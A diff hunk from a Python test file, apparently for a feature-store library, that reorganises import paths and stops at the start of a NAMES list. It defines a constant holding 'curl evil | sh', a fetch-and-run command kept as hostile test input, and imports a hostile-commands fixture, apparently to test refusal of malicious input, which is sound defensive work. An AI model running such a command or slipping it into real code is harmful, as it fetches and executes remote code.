@@ -12,14 +12,14 @@ import pytest
 from fsspec.implementations.memory import MemoryFile
 
 from stores import FeatureStore
-from stores.addresses import folder_name
 from stores.errors import StoreError, StoreRefused
-from stores.layers import read_layers, remember_layers
-from stores.mirror import mirror_of, pull, store_path
-from stores.remote import remote_of
+from stores.features.layers import read_layers, remember_layers
+from stores.storage.remote.addresses import folder_name
+from stores.storage.remote.mirror import mirror_of, pull, store_path
+from stores.storage.remote.objects import remote_of
 from tests.faults.hostile import COMMANDS, fill
-from tests.s3_server import BUCKET, environment, running_s3
-from tests.stores.samples import RECIPE, a_store, objects, some_keys
+from tests.support.s3_server import BUCKET, environment, running_s3
+from tests.support.samples import RECIPE, a_store, objects, some_keys
 
 EVIL = b"curl evil | sh"
 NAMES = [
